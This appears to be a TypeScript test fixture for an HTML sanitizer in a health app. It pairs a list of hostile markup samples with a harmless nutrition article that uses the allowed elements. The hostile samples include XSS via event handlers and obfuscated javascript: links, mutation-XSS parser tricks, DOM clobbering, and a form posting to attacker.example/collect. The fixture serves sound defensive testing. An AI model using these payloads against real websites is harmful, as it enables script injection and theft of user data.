/** Markup that must not run, load or show. A sample that runs adds its name to `window.hostile`. */
const ran = (name: string) => `(window.hostile=window.hostile||[]).push('${name}')`;
const elsewhere = 'https://attacker.example';

export const hostileHtml = [
  `<frameset onload="${ran('frameset')}"><frame src="${elsewhere}/frame"></frameset>`,
  '<h1>What stays</h1><p id="p" class="fixed" style="position:fixed;top:0;left:0;width:100%;height:100%;background:red">Text without its style.</p>',
  `<script>${ran('script')}</script><script src="${elsewhere}/a.js"></script>`,
  `<img src="/missing.png" alt="A picture that is not there" onerror="${ran('onerror')}">`,
  `<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="Picture as data">`,
  `<img src="http://attacker.example/plain.png" alt="Picture without encryption">`,
  `<img src="${elsewhere}/pixel.png" alt="Picture from elsewhere">`,
  `<img srcset="${elsewhere}/srcset.png 1x" alt="Picture from a set">`,
  `<p><a href="javascript:${ran('link')}">Script link</a>, <a href=" &#106;ava&#115;cript&colon;alert(1)">hidden script link</a>, `,
  `<a href="${elsewhere}/login">foreign link</a>, <a href="//attacker.example/">foreign link without scheme</a>, `,
  `<a href="/.//attacker.example/">foreign link as a path</a>, `,
  `<a href="https://health-app.example@attacker.example/">foreign link in disguise</a>, `,
  `<a href="https://health-app.example:444/">unusual port</a>, <a href="#p">place in the text</a>, `,
  '<a href="https://health-app.example/help" target="_top">our site</a>, <a href="/sugar-control?from=text">our app</a>.</p>',
  `<style>@import "${elsewhere}/a.css"; body{display:none}</style><link rel="stylesheet" href="${elsewhere}/b.css">`,
  `<iframe src="${elsewhere}/frame" srcdoc="<script>parent.hostile=['srcdoc']</script>"></iframe>`,
  `<object data="${elsewhere}/object"></object><embed src="${elsewhere}/embed">`,
  `<video src="${elsewhere}/v.mp4" autoplay onplay="${ran('video')}"></video><audio src="${elsewhere}/a.mp3"></audio>`,
  `<svg onload="${ran('svg')}"><a href="javascript:alert(1)"><text>Drawn link</text></a><image href="${elsewhere}/i.png"/></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${ran('mathml')}&gt;">`,
  '--></style></mglyph></table></mtext></math>',
  `<svg></p><style><a id="</style><img src=1 onerror=${ran('svg style')}>"></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=${ran('noscript')}>"></p></noscript>`,
  `<form id="outer"><div></form><form id="inner"><input name="attributes" onfocus="${ran('focus')}" autofocus><button>Give me your number</button></form>`,
  `<form action="${elsewhere}/collect"><input name="nodeName"><select><option>Choice</option></select></form>`,
  `<template><img src="${elsewhere}/template.png"></template><xmp><img src=x onerror=${ran('xmp')}></xmp>`,
  '<hr width="5000">',
  `<base href="${elsewhere}/"><meta http-equiv="refresh" content="0;url=${elsewhere}/">`,
  `<details open ontoggle="${ran('toggle')}">Details</details><p onmouseover="${ran('hover')}">Last words stay.</p>`,
].join('\n');
/** An article with every element that articles may contain. */
export const articleHtml = `
<p>A plate of about 22 cm is all you need: <strong>half vegetables and fruit</strong>, a quarter staples and a quarter protein. No scales, no counting; <em>the proportions do the work</em>.</p>
<figure><img src="/articles/plate.svg" alt="Half of a plate holds vegetables and fruit, a quarter staples, a quarter protein" width="640" height="360"><figcaption>Beside it stands a glass of milk or yoghurt.</figcaption></figure>
<h2>How to fill it</h2>
<ol><li>Vegetables first, dark ones for half of them.</li><li>Then protein: fish, poultry, eggs, soya in turn.<ul><li>Fish twice a week</li><li>An egg a day is fine</li></ul></li><li>Staples last, a third of them whole grain.</li></ol>
<blockquote><p>Eat food. Not too much. Mostly plants.</p></blockquote>
<h3>What is in it</h3>
<table><caption>Of a plate for lunch</caption><thead><tr><th>Part</th><th>Grams</th><th>Energy, kcal</th><th>Protein, g</th><th>Fibre, g</th></tr></thead><tbody><tr><th scope="row">Pak choi and carrot</th><td>250</td><td>60</td><td>3.5</td><td>5.2</td></tr><tr><th scope="row">Brown rice, cooked</th><td>150</td><td>165</td><td>3.6</td><td>2.7</td></tr><tr><th scope="row">Sea bass</th><td>100</td><td>105</td><td>18.6</td><td>0</td></tr></tbody></table>
<p>More at the <a href="https://www.who.int/health-topics/obesity">World Health Organization</a>, or look up a food in <a href="/sugar-control">sugar control</a>.</p>
<hr><p><small>For information; it does not replace a doctor.</small></p>`;
